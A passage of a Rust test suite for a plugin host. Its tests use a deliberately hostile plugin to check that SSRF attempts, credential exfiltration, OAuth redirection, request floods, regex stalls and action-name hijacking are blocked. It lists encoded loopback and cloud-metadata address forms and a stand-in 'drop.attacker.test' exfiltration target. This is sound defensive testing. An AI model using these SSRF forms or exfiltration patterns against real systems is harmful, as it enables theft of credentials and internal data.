//! A plugin written to attack the host, straight against the WIT (`tests/plugins/attacker`),
//! through the real API: each test is one class of attack, and each checks both that the attack
//! fails and that the host keeps serving another plugin's calls (and `/healthz`) meanwhile.

use std::time::{Duration, Instant};

use actionhost_e2e::host::{Answer, TestApp};
use actionhost_e2e::standin::{Reply, StandIn};
use actionhost_e2e::{attacker, bundled};
use serde_json::{Value, json};

/// The API key alice connects for the attacker: the credential it tries to steal.
const SECRET: &str = "s3cr/t+key=&x";

/// A host with GitHub (the neighbour that must keep working) and the attacker in `mode`, its
/// literal origins aimed at `port`; alice is connected to both.
struct Arena {
    app: TestApp,
    github: StandIn,
}

async fn arena(mode: &str, port: u16, overrides: &str) -> Arena {
    arena_with(mode, port, overrides, |_| {}).await
}

async fn arena_with(
    mode: &str,
    port: u16,
    overrides: &str,
    tune: impl FnOnce(&mut actionhost::config::Settings),
) -> Arena {
    let github = StandIn::json(json!({"full_name": "octo/hello"})).await;
    let mut all = format!("https://api.github.com={}", github.url());
    if !overrides.is_empty() {
        all = format!("{all},{overrides}");
    }
    let app = TestApp::start(&all, tune).await;
    let upload = app.upload("attacker", attacker(mode, port)).await;
    assert_eq!(upload.status, 200, "{upload:?}");
    app.connect("alice", "github", json!({"access_token": "gh-token"}))
        .await;
    app.connect("alice", "attacker", json!({"api_key": SECRET}))
        .await;
    Arena { app, github }
}

impl Arena {
    async fn run(&self, action: &str, parameters: Value) -> Answer {
        self.app
            .as_user(
                "alice",
                "POST",
                "/actions",
                Some(json!({"action": action, "parameters": parameters})),
            )
            .await
    }

    /// Runs `attack` while GitHub calls and `/healthz` keep being answered, each within 2 s.
    async fn contained<T>(&self, attack: impl Future<Output = T>) -> T {
        let done = std::sync::atomic::AtomicBool::new(false);
        let neighbour = async {
            let mut answered = 0;
            while !done.load(std::sync::atomic::Ordering::Acquire) || answered < 2 {
                let started = Instant::now();
                let health = self.app.call("GET", "/healthz", None, None).await;
                assert_eq!(health.status, 200);
                let github = self
                    .run(
                        "GITHUB_GET_REPOSITORY",
                        json!({"owner": "octo", "repo": "hello"}),
                    )
                    .await;
                assert_eq!(github.status, 200, "{github:?}");
                assert_eq!(github.body["full_name"], "octo/hello");
                assert!(
                    started.elapsed() < Duration::from_secs(2),
                    "the neighbour waited {:?}",
                    started.elapsed()
                );
                answered += 1;
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            answered
        };
        let attack = async {
            let result = attack.await;
            done.store(true, std::sync::atomic::Ordering::Release);
            result
        };
        let (result, answered) = tokio::join!(attack, neighbour);
        assert!(answered >= 2);
        assert!(!self.github.requests().is_empty());
        result
    }

    /// The newest audit record of `action`.
    async fn audited(&self, action: &str) -> Value {
        let audit = self
            .app
            .as_admin(
                "GET",
                &format!("/admin/audit?action={action}&limit=1"),
                None,
            )
            .await;
        audit.body["records"][0].clone()
    }
}

// --- Egress --------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ip_literals_and_local_names_are_refused_in_every_form_with_the_credential() {
    let internal = StandIn::json(json!({"internal": true})).await;
    let port = internal.addr.port();
    let arena = arena("normal", port, "").await;
    let forms = [
        format!("http://127.0.0.1:{port}"),
        format!("http://[::1]:{port}"),
        format!("http://0.0.0.0:{port}"),
        format!("http://127.1:{port}"),
        format!("http://2130706433:{port}"),
        format!("http://0x7f.0.0.1:{port}"),
        format!("http://[::ffff:127.0.0.1]:{port}"),
        format!("http://localhost:{port}"),
        "http://169.254.169.254".to_string(),
    ];
    for form in &forms {
        let answer = arena
            .contained(arena.run(
                "ATTACKER_REQUEST",
                json!({"url": format!("{form}/latest/meta-data/")}),
            ))
            .await;
        assert_eq!(answer.status, 200, "{form}: {answer:?}");
        assert_eq!(answer.body["ok"], 0, "{form}: {answer:?}");
        let error = answer.body["last_error"].as_str().unwrap_or_default();
        assert!(
            error.starts_with("HttpError::Denied") || error.starts_with("Denied"),
            "{form}: {error}"
        );
    }
    assert!(
        internal.requests().is_empty(),
        "a private address was reached"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_override_to_localhost_opens_that_port_only_not_the_hosts_own_admin_api() {
    let upstream = StandIn::json(json!({"ok": true})).await;
    let overrides = format!(
        "https://api.attacker.test=http://localhost:{}",
        upstream.addr.port()
    );
    let arena = arena("normal", 0, &overrides).await;
    // The attacker aims its literal origins at the host's own port.
    let host_port: u16 = arena.app.url.rsplit(':').next().unwrap().parse().unwrap();
    let upload = arena
        .app
        .upload("attacker", attacker("normal", host_port))
        .await;
    assert_eq!(upload.status, 200, "{upload:?}");
    let through_override = arena
        .run(
            "ATTACKER_REQUEST",
            json!({"url": "https://api.attacker.test/ok"}),
        )
        .await;
    assert_eq!(through_override.body["ok"], 1, "{through_override:?}");
    for url in [
        format!("http://localhost:{host_port}/admin/plugins"),
        format!("http://127.0.0.1:{host_port}/admin/plugins"),
    ] {
        let admin = arena
            .contained(arena.run("ATTACKER_REQUEST", json!({"url": url})))
            .await;
        assert_eq!(admin.body["ok"], 0, "{admin:?}");
        assert!(
            admin.body["last_error"]
                .as_str()
                .unwrap_or_default()
                .contains("Denied"),
            "{admin:?}"
        );
    }
}

#[test]
fn plugin_check_warns_about_private_and_ip_literal_origins() {
    let path = std::env::temp_dir().join(format!("attacker-{}.wasm", std::process::id()));
    std::fs::write(&path, attacker("normal", 9)).unwrap();
    let output = std::process::Command::new(actionhost_e2e::host::binary())
        .args(["plugin", "check"])
        .arg(&path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{stdout}");
    for origin in [
        "http://127.0.0.1:9",
        "http://[::1]:9",
        "http://169.254.169.254",
        "http://localhost:9",
    ] {
        assert!(
            stdout
                .lines()
                .any(|l| l.starts_with(&format!("warning: origin {origin} is a private address"))),
            "no warning for {origin}:\n{stdout}"
        );
    }
    assert!(
        !stdout.contains("warning: origin https://api.attacker.test"),
        "{stdout}"
    );
    std::fs::remove_file(path).ok();
}

/// Serves the attacker as an OAuth integration whose token and revocation URLs are on
/// 127.0.0.1:`port`, with the operator's OAuth app registered for it.
async fn oauth_attacker(app: &TestApp, port: u16) {
    let upload = app.upload("attacker", attacker("oauthssrf", port)).await;
    assert_eq!(upload.status, 200, "{upload:?}");
    let connection = app
        .as_admin(
            "PUT",
            "/admin/connections/attacker",
            Some(json!({"client_id": "operator-client", "client_secret": "operator-secret"})),
        )
        .await;
    assert!(connection.status < 300, "{connection:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_hosts_oauth_client_does_not_follow_a_plugins_private_token_or_revoke_url() {
    let internal = StandIn::json(json!({"access_token": "stolen", "token_type": "bearer"})).await;
    let refusing =
        StandIn::start(|_| Reply::json(401, json!({"message": "Bad credentials"}))).await;
    let overrides = format!("https://api.attacker.test={}", refusing.url());
    let github = StandIn::json(json!({"full_name": "octo/hello"})).await;
    let app = TestApp::start(
        &format!("https://api.github.com={},{overrides}", github.url()),
        |_| {},
    )
    .await;
    oauth_attacker(&app, internal.addr.port()).await;
    app.connect(
        "alice",
        "attacker",
        json!({"access_token": "old-access", "refresh_token": "alice-refresh"}),
    )
    .await;
    // A 401 makes the host refresh at the plugin's token URL: refused, nothing sent.
    let answer = app
        .as_user(
            "alice",
            "POST",
            "/actions",
            Some(json!({"action": "ATTACKER_REQUEST", "parameters": {"url": "https://api.attacker.test/me"}})),
        )
        .await;
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(answer.body["statuses"], json!([401]), "{answer:?}");
    // Deleting the account revokes at the plugin's revocation URL: refused, nothing sent.
    let deleted = app
        .as_user("alice", "DELETE", "/connected-accounts/attacker", None)
        .await;
    assert_eq!(deleted.status, 204, "{deleted:?}");
    assert!(
        internal.requests().is_empty(),
        "the operator's client secret or alice's refresh token reached {:?}",
        internal.requests()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_echoed_by_the_upstream_is_never_seen_by_the_plugin() {
    let echo = StandIn::start(|r| {
        let text = format!("{:?} {}", r.headers, r.query.clone().unwrap_or_default());
        Reply::json(200, json!({"you_sent": text})).header("x-echo", &text)
    })
    .await;
    let drop_box = StandIn::json(json!({"thanks": true})).await;
    let overrides = format!(
        "https://api.attacker.test={},https://drop.attacker.test={}",
        echo.url(),
        drop_box.url()
    );
    let arena = arena("normal", 0, &overrides).await;
    let answer = arena
        .contained(arena.run(
            "ATTACKER_EXFILTRATE",
            json!({"from": "https://api.attacker.test/echo", "to": "https://drop.attacker.test/collect"}),
        ))
        .await;
    // The upstream did receive the key (percent-encoded in the query) ...
    let received = echo.single();
    assert!(
        received
            .query
            .as_deref()
            .is_some_and(|q| q.contains("key=s3cr%2Ft%2Bkey%3D%26x")),
        "{received:?}"
    );
    // ... but neither the drop box, nor the error the agent sees, holds any form of it.
    let collected = String::from_utf8_lossy(&drop_box.single().body).into_owned();
    let error = answer.body.to_string();
    assert_eq!(answer.status, 502, "{answer:?}");
    for text in [&collected, &error] {
        for form in [SECRET, "s3cr%2Ft%2Bkey%3D%26x", "s3cr/t+key=&x"] {
            assert!(!text.contains(form), "{form} leaked: {text}");
        }
        assert!(text.contains("[redacted by actionhost]"), "{text}");
    }
    // The plugin may not add its own value for the key's parameter either.
    let polluted = arena
        .run(
            "ATTACKER_REQUEST",
            json!({"url": "https://api.attacker.test/x?key=attacker-key"}),
        )
        .await;
    assert!(
        polluted.body["last_error"]
            .as_str()
            .unwrap_or_default()
            .contains("carries the credential"),
        "{polluted:?}"
    );
    assert_eq!(echo.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upstream_requests_are_capped_per_call_and_audited_truly_whatever_the_outcome() {
    let upstream = StandIn::start(|r| {
        if r.path == "/slow" {
            Reply::json(200, json!({})).delayed(Duration::from_millis(300))
        } else {
            Reply::json(200, json!({}))
        }
    })
    .await;
    let overrides = format!("https://api.attacker.test={}", upstream.url());
    let arena = arena_with("normal", 0, &overrides, |settings| {
        settings.plugin_policies.insert(
            "attacker".into(),
            actionhost::policy::PluginPolicy {
                wall_seconds: Some(2.0),
                ..Default::default()
            },
        );
    })
    .await;
    // 10,000 requests asked, 200 (the default cap) sent, then the call is ended.
    let flood = arena
        .contained(arena.run(
            "ATTACKER_REQUEST",
            json!({"url": "https://api.attacker.test/fast", "times": 10_000}),
        ))
        .await;
    assert_eq!(flood.status, 500, "{flood:?}");
    assert_eq!(flood.code(), "plugin_error");
    assert!(
        flood.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("more than 200 upstream requests"),
        "{flood:?}"
    );
    assert_eq!(upstream.requests().len(), 200);
    let record = arena.audited("ATTACKER_REQUEST").await;
    assert_eq!(record["upstream_calls"], 200, "{record}");
    assert_eq!(record["outcome"], "plugin_error");

    // A call cut off by its deadline is audited with the requests it really sent.
    let before = upstream.requests().len();
    let slow = arena
        .run(
            "ATTACKER_REQUEST",
            json!({"url": "https://api.attacker.test/slow", "times": 100}),
        )
        .await;
    assert_eq!(slow.code(), "timeout", "{slow:?}");
    tokio::time::sleep(Duration::from_millis(400)).await;
    let sent = upstream.requests().len() - before;
    assert!(sent >= 3, "{sent}");
    let record = arena.audited("ATTACKER_REQUEST").await;
    assert_eq!(record["outcome"], "timeout");
    assert_eq!(record["upstream_calls"], sent as u64, "{record}");

    // A request body over the cap (16 MiB) is refused before it is sent.
    let before = upstream.requests().len();
    let big = arena
        .run(
            "ATTACKER_REQUEST",
            json!({"url": "https://api.attacker.test/fast", "method": "POST", "body_bytes": 20_000_000}),
        )
        .await;
    assert!(
        big.body["last_error"]
            .as_str()
            .unwrap_or_default()
            .contains("over the cap of 16777216 bytes"),
        "{big:?}"
    );
    assert_eq!(upstream.requests().len(), before);
}

// --- Stalls, memory, disk ------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_backtracking_pattern_is_refused_at_load_with_the_reason() {
    let arena = arena("normal", 0, "").await;
    let refused = arena.app.upload("attacker", attacker("regex", 0)).await;
    assert_eq!(refused.status, 422, "{refused:?}");
    let reasons = refused.body["error"]["details"]["reasons"].to_string();
    assert!(
        reasons.contains("ATTACKER_MATCH") && reasons.contains("linear time"),
        "{reasons}"
    );
    // The serving version stays.
    let still = arena.run("ATTACKER_DEEP_OUTPUT", json!({"depth": 1})).await;
    assert_eq!(still.status, 200, "{still:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn heavy_validation_runs_off_the_async_workers() {
    let arena = arena("normal", 0, "").await;
    // 250 patterns tried on each of 4,000 strings: every string fails every branch.
    let items: Vec<String> = (0..4_000).map(|_| "a".repeat(40)).collect();
    let heavy = || arena.run("ATTACKER_VALIDATE", json!({"items": items}));
    let started = Instant::now();
    let (one, two) = arena
        .contained(async { tokio::join!(heavy(), heavy()) })
        .await;
    assert_eq!(one.code(), "invalid_parameters", "{one:?}");
    assert_eq!(two.code(), "invalid_parameters");
    // The test is only meaningful if validating took longer than a neighbour may wait.
    assert!(
        started.elapsed() > Duration::from_millis(300),
        "{:?}",
        started.elapsed()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_catalogs_are_refused_at_load_with_reasons() {
    let arena = arena("normal", 0, "").await;
    let huge = arena
        .app
        .upload("attacker", attacker("hugeschema", 0))
        .await;
    assert_eq!(huge.status, 422, "{huge:?}");
    assert!(
        huge.body["error"]["details"]["reasons"][0]
            .as_str()
            .unwrap()
            .contains("at most"),
        "{huge:?}"
    );
    let many = arena
        .app
        .upload("attacker", attacker("manyactions", 0))
        .await;
    assert_eq!(many.status, 422);
    assert_eq!(
        many.body["error"]["details"]["reasons"],
        json!(["the plugin declares 100000 actions; at most 1000 are allowed"])
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_describe_is_a_plugin_error_and_the_schema_cache_is_bounded() {
    let arena = arena("normal", 0, "").await;
    let run = arena
        .contained(arena.run("ATTACKER_BIG_DESCRIBE", json!({})))
        .await;
    assert_eq!(run.code(), "plugin_error", "{run:?}");
    assert!(
        run.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("at most 262144"),
        "{run:?}"
    );
    let listing = arena
        .app
        .as_user("alice", "GET", "/actions?integrations=attacker", None)
        .await;
    assert!(
        listing.body["errors"]
            .to_string()
            .contains("ATTACKER_BIG_DESCRIBE"),
        "{listing:?}"
    );

    // The per-user cache keeps to its byte budget, evicting the least recently used.
    let cache = actionhost::catalog::UserSchemas::with_capacity(1024 * 1024);
    let definition = actionhost::manifest::ActionDefinition {
        name: "ACME_CREATE".into(),
        description: "creates".into(),
        input_schema: json!({"type": "object", "properties": {"p": {"type": "string", "description": "x".repeat(4_000)}}}),
        output_schema: None,
        hints: Default::default(),
        scopes: Vec::new(),
    };
    for user in 0..1_000 {
        let schema = actionhost::catalog::UserSchema::new("hash", &definition).unwrap();
        cache.insert(&format!("user-{user}"), "ACME_CREATE", schema);
        assert!(cache.bytes() <= 1024 * 1024, "{} bytes", cache.bytes());
    }
    assert!(cache.get("user-999", "ACME_CREATE", "hash").is_some());
    assert!(cache.get("user-0", "ACME_CREATE", "hash").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn output_nested_too_deep_is_a_plugin_error() {
    let arena = arena("normal", 0, "").await;
    let deep = arena
        .contained(arena.run("ATTACKER_DEEP_OUTPUT", json!({"depth": 100_000})))
        .await;
    assert_eq!(deep.code(), "plugin_error", "{deep:?}");
    assert!(
        deep.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("nested deeper than 127 levels")
    );
    // The deepest JSON serde_json reads passes; one level more does not.
    let deepest = arena
        .run("ATTACKER_DEEP_OUTPUT", json!({"depth": 127}))
        .await;
    assert_eq!(deepest.status, 200, "{deepest:?}");
    let one_more = arena
        .run("ATTACKER_DEEP_OUTPUT", json!({"depth": 128}))
        .await;
    assert_eq!(one_more.code(), "plugin_error", "{one_more:?}");
}

#[test]
fn plugin_run_reports_deep_output_as_an_error_without_panicking() {
    let path = std::env::temp_dir().join(format!("attacker-run-{}.wasm", std::process::id()));
    std::fs::write(&path, attacker("normal", 0)).unwrap();
    let output = std::process::Command::new(actionhost_e2e::host::binary())
        .args(["plugin", "run"])
        .arg(&path)
        .args(["ATTACKER_DEEP_OUTPUT", "--params", r#"{"depth": 200}"#])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("plugin_error"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    std::fs::remove_file(path).ok();
}

// --- Names ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_action_belongs_to_the_plugin_with_the_longest_id_prefix() {
    let arena = arena("normal", 0, "").await;
    assert_eq!(
        arena
            .app
            .upload("acme", attacker("hijacker", 0))
            .await
            .status,
        200
    );
    assert_eq!(
        arena
            .app
            .upload("acme_calendar", attacker("hijackee", 0))
            .await
            .status,
        200
    );
    let run = arena
        .contained(arena.run("ACME_CALENDAR_CREATE_EVENT", json!({})))
        .await;
    assert_eq!(run.body, json!({"served_by": "acme_calendar"}));
    let record = arena.audited("ACME_CALENDAR_CREATE_EVENT").await;
    assert_eq!(record["integration"], "acme_calendar");
    assert_eq!(
        arena.run("ACME_PING", json!({})).await.body,
        json!({"served_by": "acme"})
    );
    // Listed once, under its owner; the operator sees the shadowed declaration.
    let listing = arena
        .app
        .as_user("alice", "GET", "/actions?limit_to_available=false", None)
        .await;
    let names = |id: &str| -> Vec<String> {
        listing.body["actions"][id]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["function"]["name"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(names("acme"), ["ACME_PING"]);
    assert_eq!(names("acme_calendar"), ["ACME_CALENDAR_CREATE_EVENT"]);
    let plugins = arena.app.as_admin("GET", "/admin/plugins", None).await;
    let acme = plugins
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == "acme")
        .unwrap()
        .clone();
    assert_eq!(
        acme["shadowed_actions"],
        json!(["ACME_CALENDAR_CREATE_EVENT"])
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_seed_integrations_prefix_and_another_plugins_names_cannot_be_claimed() {
    let arena = arena("normal", 0, "").await;
    let squat = arena.app.upload("google", attacker("seedsquat", 0)).await;
    assert_eq!(squat.status, 422, "{squat:?}");
    assert!(
        squat.body["error"]["details"]["reasons"]
            .to_string()
            .contains("belongs to the google_calendar integration"),
        "{squat:?}"
    );
    // Nor may a longer id take names under a seed's prefix (`github_create` would own
    // GITHUB_CREATE_ISSUE over the bundled GitHub plugin).
    let extend = arena
        .app
        .upload("github_create", attacker("seedextend", 0))
        .await;
    assert_eq!(extend.status, 422, "{extend:?}");
    assert!(
        extend.body["error"]["details"]["reasons"]
            .to_string()
            .contains("extends the github integration's id"),
        "{extend:?}"
    );
    // A describe that answers with another plugin's action name is refused.
    let lie = arena.contained(arena.run("ATTACKER_LIE", json!({}))).await;
    assert_eq!(lie.code(), "plugin_error", "{lie:?}");
    assert!(
        lie.body["error"]["message"].as_str().unwrap().contains(
            r#"describe of ATTACKER_LIE returned a definition named "GITHUB_CREATE_ISSUE""#
        ),
        "{lie:?}"
    );
    let listing = arena.app.as_user("alice", "GET", "/actions", None).await;
    let github: Vec<&str> = listing.body["actions"]["github"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["function"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        github
            .iter()
            .filter(|n| **n == "GITHUB_CREATE_ISSUE")
            .count(),
        1
    );
    assert!(
        listing.body["errors"].to_string().contains("ATTACKER_LIE"),
        "{listing:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plugin_that_takes_a_bundled_id_is_shown_as_replacing_it() {
    let arena = arena("normal", 0, "").await;
    let upload = arena.app.upload("github", attacker("github", 0)).await;
    assert_eq!(upload.status, 200, "{upload:?}");
    let plugins = arena.app.as_admin("GET", "/admin/plugins", None).await;
    let github = plugins
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == "github")
        .unwrap()
        .clone();
    assert_eq!(github["source"], "uploaded");
    assert_eq!(github["version"], "9.9.9");
    assert_eq!(
        github["replaces_bundled"]["hash"],
        actionhost::runtime::sha256_hex(bundled("github.wasm"))
    );
}

// --- The real binary: hot reload, shutdown, log volume, memory --------------------------------

const ADMIN: &str = "hostile-test-admin-key";
const JWT: &str = "hostile-test-jwt-secret-0123456789abcdef";

/// `actionhost serve` as a child process, with an operator's key and a user token; alice's
/// GitHub account is connected, against a stand-in, so a neighbour's calls can be checked.
struct Served {
    host: actionhost_e2e::host::HostProcess,
    client: reqwest::Client,
    token: String,
    github: StandIn,
}

fn user_token(data: &std::path::Path) -> String {
    let output = std::process::Command::new(actionhost_e2e::host::binary())
        .args(["token", "--user", "alice"])
        .env_clear()
        .env("ACTIONHOST_DATA_DIR", data)
        .env("ACTIONHOST_JWT_SECRET", JWT)
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap().trim().to_string()
}

impl Served {
    /// Starts with `extra` settings and `overrides` (besides GitHub's), stderr to a log file.
    async fn start(data: &std::path::Path, extra: &[(&str, &str)], overrides: &str) -> Self {
        Self::start_with(data, extra, overrides, None).await
    }

    /// The same, with the host's stderr going to `sink` instead of the log file.
    async fn start_with(
        data: &std::path::Path,
        extra: &[(&str, &str)],
        overrides: &str,
        sink: Option<std::process::Stdio>,
    ) -> Self {
        let github = StandIn::json(json!({"full_name": "octo/hello"})).await;
        let mut all = format!("https://api.github.com={}", github.url());
        if !overrides.is_empty() {
            all = format!("{all},{overrides}");
        }
        let mut env = vec![
            ("ACTIONHOST_ADMIN_KEY", ADMIN),
            ("ACTIONHOST_JWT_SECRET", JWT),
            ("ACTIONHOST_UPSTREAM_OVERRIDES", all.as_str()),
        ];
        env.extend_from_slice(extra);
        let host = match sink {
            Some(sink) => actionhost_e2e::host::HostProcess::start_with_stderr(data, &env, sink),
            None => actionhost_e2e::host::HostProcess::start(data, &env),
        };
        let served = Served {
            host,
            client: reqwest::Client::new(),
            token: user_token(data),
            github,
        };
        let connect = served
            .client
            .put(format!("{}/connected-accounts/github", served.host.url))
            .bearer_auth(&served.token)
            .json(&json!({"access_token": "gh-token"}));
        assert_eq!(served.send(connect).await.0, 200);
        served
    }

    /// Asserts that another plugin's call is answered, within 2 s.
    async fn neighbour_answers(&self) {
        self.neighbour_answers_within(Duration::from_secs(2)).await;
    }

    async fn neighbour_answers_within(&self, limit: Duration) {
        let started = Instant::now();
        let (status, body) = tokio::time::timeout(
            limit,
            self.run(
                "GITHUB_GET_REPOSITORY",
                json!({"owner": "octo", "repo": "hello"}),
            ),
        )
        .await
        .unwrap_or_else(|_| panic!("the neighbour waited {:?}", started.elapsed()));
        assert_eq!(
            (status, &body["full_name"]),
            (200, &json!("octo/hello")),
            "{body}"
        );
        assert!(!self.github.requests().is_empty());
    }

    async fn send(&self, request: reqwest::RequestBuilder) -> (u16, Value) {
        let response = request.send().await.unwrap();
        let status = response.status().as_u16();
        (status, response.json().await.unwrap_or(Value::Null))
    }

    async fn admin(&self, method: reqwest::Method, path: &str) -> reqwest::RequestBuilder {
        self.client
            .request(method, format!("{}{path}", self.host.url))
            .bearer_auth(ADMIN)
    }

    async fn upload_attacker(&self, bytes: Vec<u8>) {
        let request = self
            .admin(reqwest::Method::PUT, "/admin/plugins/attacker")
            .await
            .body(bytes);
        assert_eq!(self.send(request).await.0, 200);
        let connect = self
            .client
            .put(format!("{}/connected-accounts/attacker", self.host.url))
            .bearer_auth(&self.token)
            .json(&json!({"api_key": SECRET}));
        assert_eq!(self.send(connect).await.0, 200);
    }

    async fn run(&self, action: &str, parameters: Value) -> (u16, Value) {
        let request = self
            .client
            .post(format!("{}/actions", self.host.url))
            .bearer_auth(&self.token)
            .json(&json!({"action": action, "parameters": parameters}));
        self.send(request).await
    }

    async fn metrics(&self) -> String {
        self.client
            .get(format!("{}/metrics", self.host.url))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
    }

    /// Asserts `/healthz` answers within `limit`.
    async fn healthy_within(&self, limit: Duration) {
        let started = Instant::now();
        let answer = tokio::time::timeout(
            limit,
            self.client.get(format!("{}/healthz", self.host.url)).send(),
        )
        .await;
        assert!(
            matches!(&answer, Ok(Ok(r)) if r.status() == 200),
            "/healthz did not answer within {limit:?} ({:?})",
            started.elapsed()
        );
    }

    /// The host's peak resident memory so far, in MiB.
    fn peak_rss_mib(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.host.pid())).unwrap();
        status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            .unwrap()
            / 1024
    }
}

fn metric_lines(metrics: &str, prefix: &str) -> Vec<String> {
    metrics
        .lines()
        .filter(|l| l.starts_with(prefix))
        .map(str::to_string)
        .collect()
}

/// Writes `bytes` to `path` in two halves with a pause between them, as a slow copy does.
fn write_slowly(path: &std::path::Path, bytes: &[u8], pause: Duration) {
    use std::io::Write as _;
    let mut file = std::fs::File::create(path).unwrap();
    let half = bytes.len() / 2;
    file.write_all(&bytes[..half]).unwrap();
    file.flush().unwrap();
    std::thread::sleep(pause);
    file.write_all(&bytes[half..]).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_a_plugin_file_never_reloads_it_and_a_slow_write_loads_once_complete() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    let data = dir.path().join("data");
    let plugins_dir = plugins.to_string_lossy().to_string();
    let served = Served::start(
        &data,
        &[("ACTIONHOST_PLUGINS_DIR", plugins_dir.as_str())],
        "",
    )
    .await;
    let file = plugins.join("attacker.wasm");
    write_slowly(&file, &attacker("normal", 1), Duration::from_millis(600));
    let loaded = r#"actionhost_plugin_loads_total{plugin="attacker",result="loaded"} 1"#;
    let started = Instant::now();
    while !served.metrics().await.lines().any(|l| l == loaded) {
        assert!(started.elapsed() < Duration::from_secs(15), "never loaded");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Reads, by the host's own reload as much as by anyone, are not changes.
    for _ in 0..50 {
        std::fs::read(&file).unwrap();
        std::process::Command::new("cat")
            .arg(&file)
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    served.neighbour_answers().await;
    // A slow rewrite with new content: one swap, no refusal of the half-written file.
    write_slowly(&file, &attacker("normal", 2), Duration::from_millis(600));
    tokio::time::sleep(Duration::from_secs(4)).await;
    let metrics = served.metrics().await;
    let mut loads = metric_lines(
        &metrics,
        "actionhost_plugin_loads_total{plugin=\"attacker\"",
    );
    loads.sort();
    assert_eq!(
        loads,
        [
            r#"actionhost_plugin_loads_total{plugin="attacker",result="loaded"} 1"#,
            r#"actionhost_plugin_loads_total{plugin="attacker",result="swapped"} 1"#,
        ],
        "{metrics}"
    );
    assert!(
        !metrics.contains(r#"result="refused""#),
        "a half-written file was loaded: {metrics}"
    );
    served.neighbour_answers().await;
    // A file taking a bundled plugin's id is the operator's call, but a loud one.
    std::fs::write(plugins.join("github.wasm"), attacker("github", 0)).unwrap();
    let swapped = r#"actionhost_plugin_loads_total{plugin="github",result="swapped"} 1"#;
    let started = Instant::now();
    while !served.metrics().await.lines().any(|l| l == swapped) {
        assert!(started.elapsed() < Duration::from_secs(15), "never swapped");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let (status, log) = served.host.stop_with_log();
    assert!(status.success());
    let bundled_hash = actionhost::runtime::sha256_hex(bundled("github.wasm"));
    let file_hash = actionhost::runtime::sha256_hex(&attacker("github", 0));
    assert!(
        log.lines().any(|l| l.contains("WARN")
            && l.contains("replaces the bundled plugin github")
            && l.contains(&bundled_hash)
            && l.contains(&file_hash)),
        "{log}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_stops_the_host_promptly_while_plugins_keep_changing_and_a_call_hangs() {
    // An upstream that never answers in time: the call holds on to its connection.
    let stalled =
        StandIn::start(|_| Reply::json(200, json!({})).delayed(Duration::from_secs(60))).await;
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    let data = dir.path().join("data");
    let plugins_dir = plugins.to_string_lossy().to_string();
    let overrides = format!("https://api.attacker.test={}", stalled.url());
    let served = Served::start(
        &data,
        &[("ACTIONHOST_PLUGINS_DIR", plugins_dir.as_str())],
        &overrides,
    )
    .await;
    std::fs::write(plugins.join("attacker.wasm"), attacker("normal", 1)).unwrap();
    let loaded = r#"actionhost_plugin_loads_total{plugin="attacker",result="loaded"} 1"#;
    let started = Instant::now();
    while !served.metrics().await.lines().any(|l| l == loaded) {
        assert!(started.elapsed() < Duration::from_secs(15), "never loaded");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let connect = served
        .client
        .put(format!("{}/connected-accounts/attacker", served.host.url))
        .bearer_auth(&served.token)
        .json(&json!({"api_key": SECRET}));
    assert_eq!(served.send(connect).await.0, 200);
    // New versions keep arriving (and compiling) ...
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let (stop, plugins) = (stop.clone(), plugins.clone());
        std::thread::spawn(move || {
            let mut port = 1;
            while !stop.load(std::sync::atomic::Ordering::Acquire) {
                port += 1;
                std::fs::write(plugins.join("attacker.wasm"), attacker("normal", port)).unwrap();
